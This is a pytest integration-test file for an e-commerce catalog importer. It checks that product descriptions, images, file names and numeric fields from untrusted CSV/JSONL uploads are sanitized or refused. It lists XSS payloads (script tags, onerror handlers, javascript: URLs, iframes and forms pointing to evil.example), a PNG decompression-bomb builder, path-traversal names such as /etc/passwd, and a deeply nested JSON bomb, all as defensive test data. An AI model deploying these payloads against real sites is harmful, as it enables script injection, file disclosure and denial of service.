"""What strangers put into product files: scripts in descriptions, bombs for pictures, numbers out of this world."""

import io
import json
import struct
import zlib
from collections import Counter

import pytest
from PIL import Image

from tests.integration.catalog_import.conftest import GOODS, ask, census, issues, media, run

HOSTILE = [
    "<p>ok</p><script>alert(1)</script>",
    "<p onclick=alert(1)>ok</p><style>p{display:none}</style>",
    "<img src=x onerror=alert(1)>ok",
    '<a href="javascript:alert(1)">ok</a>',
    '<a href="&#106;avascript:alert(1)">ok</a>',
    '<a href=" data:text/html,<script>alert(1)</script>">ok</a>',
    "<iframe src=//evil.example></iframe>ok",
    "<svg><script>alert(1)</script></svg>ok<svg/onload=alert(1)>",
    "<math><mtext></p><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>'>ok",
    "<p>ok<b><i><u",
    "<form action=//evil.example><input name=password>ok</form>",
    "<div>" * 5000 + "ok",
    "<b>" * 30_000 + "ok",
    "<p>ok</p><!--<script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>ok",
    "<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=//evil.example>ok",
    "<p style='position:fixed'>ok</p>",
]
FORBIDDEN = (
    "<script", "<style", "<img", "<iframe", "<svg", "<form", "<input", "<base", "<meta", "<link", "javascript:", "onerror=",
    "onclick=", "onload=", "style=", "<math", "<noscript", "<!--",
)  # fmt: skip


def goods(**cells: str) -> list[dict[str, str]]:
    return [GOODS[2] | cells]


async def test_only_harmless_html_of_a_description_is_kept(shop_csv):
    rows = [
        GOODS[2] | {"slug": f"p-{place}", "sku": f"S-{place}", "description_html": html}
        for place, html in enumerate(HOSTILE)
    ]
    report = await run(shop_csv(*rows))
    assert report.products == Counter(created=len(HOSTILE))
    for slug, html in await ask("select slug, description_html from catalog.product"):
        kept = html.lower().split(">")
        tags = " ".join(part[part.rfind("<") :] for part in kept if "<" in part)
        assert not any(word in tags for word in FORBIDDEN), (slug, html[:300])
        assert "ok" in html or slug in {"p-8", "p-14"}, (slug, html[:300])


async def test_nothing_hostile_reaches_the_page(shop_csv, client, drain_outbox):
    bad = "<script>alert(1)</script>"
    title = f"Bowl {bad}"
    row = goods(title=title, description_html=f"<p>x</p>{bad}", seo_title=title, **{"attribute.Material": bad})
    report = await run(shop_csv(*row))
    assert report.products == Counter(created=1)
    await drain_outbox()
    page = await client.get("/p/blue-bowl")
    assert page.status_code == 200
    assert "alert(1)" in page.text
    assert "<script>alert(1)" not in page.text


def png_that_claims(width: int, height: int) -> bytes:
    """A few bytes whose header says that they are many pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    "content",
    [
        png_that_claims(60_000, 60_000),
        png_that_claims(2**31 - 1, 1),
        b"",
        b"\x89PNG\r\n\x1a\n",
        b"GIF89a",
        b"%PDF-1.4",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"\xff\xd8\xff\xe0" + b"\0" * 100,
    ],
    ids=lambda content: repr(content[:12]),
)
async def test_a_picture_that_is_none_or_a_bomb_is_left_out_with_a_warning(shop_csv, tmp_path, content):
    folder = tmp_path / "images"
    folder.mkdir()
    (folder / "bad.png").write_bytes(content)
    good = io.BytesIO()
    Image.new("RGB", (8, 6)).save(good, "PNG")
    (folder / "good.png").write_bytes(good.getvalue())
    report = await run(shop_csv(*goods(images="bad.png|good.png|https://example.com/a/missing.png?x=1")), images=folder)
    assert report.products == Counter(created=1)
    assert issues(report) == [(2, "images"), (2, "images")]
    assert len(media()) == 1
    assert await ask("select width, height from catalog.image") == [(8, 6)]


@pytest.mark.parametrize(
    "name", ["/etc/passwd", "..", ".", "a\x00b.png", "sub/../../secret.png", "~root/x.png", "http://["]
)
async def test_no_file_beside_the_folder_is_ever_read(shop_csv, tmp_path, name):
    folder = tmp_path / "images"
    folder.mkdir()
    Image.new("RGB", (8, 6)).save(tmp_path / "secret.png")
    report = await run(shop_csv(*goods(images=name)), images=folder)
    assert report.products == Counter(created=1)
    assert media() == []


@pytest.mark.parametrize(
    ("cells", "column"),
    [
        ({"price_eur": "1e400"}, "price_eur"),
        ({"price_eur": "NaN"}, "price_eur"),
        ({"price_eur": "Infinity"}, "price_eur"),
        ({"price_eur": "9" * 400}, "price_eur"),
        ({"stock": "9" * 400}, "stock"),
        ({"weight_grams": "1e400"}, "weight_grams"),
        ({"weight_grams": "NaN"}, "weight_grams"),
        ({"weight_grams": "9" * 4000}, "weight_grams"),
        ({"title": "a\x00b"}, "title"),
        ({"sku": "a\x00b"}, "sku"),
        ({"slug": "\x00"}, "slug"),
        ({"option1_name": "a\x00", "option1_value": "b"}, None),
        ({"categories": "a\x00b"}, "categories"),
        ({"attribute.Material": "a\x00b"}, None),
        ({"published_at": "9999999-01-01"}, "published_at"),
        ({"status": "\x00"}, "status"),
    ],
)
async def test_a_value_out_of_this_world_refuses_its_product_by_row_and_column(shop_csv, cells, column):
    before = await census()
    report = await run(shop_csv(*goods(**cells)))
    assert report.products == Counter(refused=1)
    assert 2 in {row for row, _ in issues(report)}
    if column:
        assert (2, column) in issues(report)
    assert await census() == before


async def test_json_out_of_this_world_costs_its_record_alone(tmp_path):
    good = {"slug": "mug", "title": "Mug", "sku": "M", "price_eur": 9.9}
    lines = [
        json.dumps(good),
        '{"slug": "nan", "title": "x", "sku": "N", "price_eur": NaN}',
        '{"slug": "big", "title": "x", "sku": "B", "price_eur": 1e400}',
        '{"slug": "bigger", "title": "x", "sku": "C", "price_eur": 1' + "0" * 400 + "}",
        '{"slug": "half", "title": "\\ud800", "sku": "H", "price_eur": 1}',
        '{"slug": "deep", "title": ' + '{"a":' * 100_000 + "1" + "}" * 100_000 + "}",
        json.dumps(
            good | {"slug": "bowl", "sku": "W", "title": ["two", "words"], "attribute.Material": {"no": "text"}}
        ),
    ]
    path = tmp_path / "goods.jsonl"
    path.write_text("\n".join(lines))
    report = await run(path)
    assert {slug for (slug,) in await ask("select slug from catalog.product")} == {"mug", "bowl"}
    assert {row for row, _ in issues(report)} == {2, 3, 4, 5, 6}


async def test_a_product_is_in_whole_or_not_at_all_when_the_import_breaks(shop_csv, monkeypatch):
    from shop.modules.catalog.importing import importer, save

    monkeypatch.setattr(importer, "BATCH", 1)
    real, calls = save._save_stock, []

    async def breaks(uow, units):
        calls.append(units)
        if len(calls) == 2:
            raise RuntimeError("power cut")
        await real(uow, units)

    monkeypatch.setattr(save, "_save_stock", breaks)
    with pytest.raises(RuntimeError, match="power cut"):
        await run(shop_csv())
    assert await ask("select slug from catalog.product") == [("red-mug",)]
    assert await ask("select count(*) from pricing.price p join catalog.variant v on v.id = p.variant_id") == [(3,)]
    assert await ask("select count(*) from pricing.price") == [(3,)]
    monkeypatch.setattr(save, "_save_stock", real)
    report = await run(shop_csv())
    assert report.products == Counter(created=1, unchanged=1)
